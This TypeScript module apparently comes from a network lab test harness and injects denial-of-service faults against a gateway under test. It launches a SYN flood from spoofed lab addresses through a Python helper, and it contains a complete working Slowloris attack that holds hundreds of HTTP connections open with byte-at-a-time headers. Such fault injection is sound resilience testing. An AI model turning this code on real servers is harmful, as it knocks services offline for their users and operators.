import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { fileURLToPath } from 'node:url'
import type { HostRecord, LabRecord } from '../record.ts'
import type { Fault } from './fault.ts'

const synFloodProgram = fileURLToPath(new URL('syn-flood.py', import.meta.url))

/**
 * Begins so many connections to port 80 of an address that none goes on with, from a host of the lab under addresses
 * that nobody has. It ends by itself.
 */
export async function floodWithSyn(
  { subnet }: LabRecord,
  from: HostRecord,
  address: string,
  { count = 20_000, perSecond = 4_000 } = {},
): Promise<Fault> {
  const numbers = [count, perSecond].map(String)
  const program = ['python3', synFloodProgram, address, '80', subnet, ...numbers]
  const child = spawn('ip', ['netns', 'exec', from.namespace, ...program], { stdio: 'ignore' })
  const ended = once(child, 'exit')
  await once(child, 'spawn')
  return {
    async undo() {
      child.kill()
      await ended
    },
  }
}

/** Slow clients: so many connections to port 80 that send their request a byte in half a second, and never end it. */
export async function attackSlowly(address: string, connections = 400): Promise<Fault> {
  const head = `GET /echo HTTP/1.1\r\nhost: ${address}\r\nx-slow: ${'a'.repeat(4_096)}`
  const sockets: Socket[] = []
  for (let count = 0; count < connections; count++) {
    const socket = connect(80, address)
    socket.on('error', () => {}) // what the gateway does with them is its business
    sockets.push(socket)
    await Promise.race([once(socket, 'connect'), once(socket, 'close')])
  }
  let sent = 0
  const timer = setInterval(() => {
    const byte = head[sent++ % head.length]!
    for (const socket of sockets) if (socket.writable) socket.write(byte)
  }, 500)
  return {
    async undo() {
      clearInterval(timer)
      for (const socket of sockets) socket.destroy()
    },
  }
}
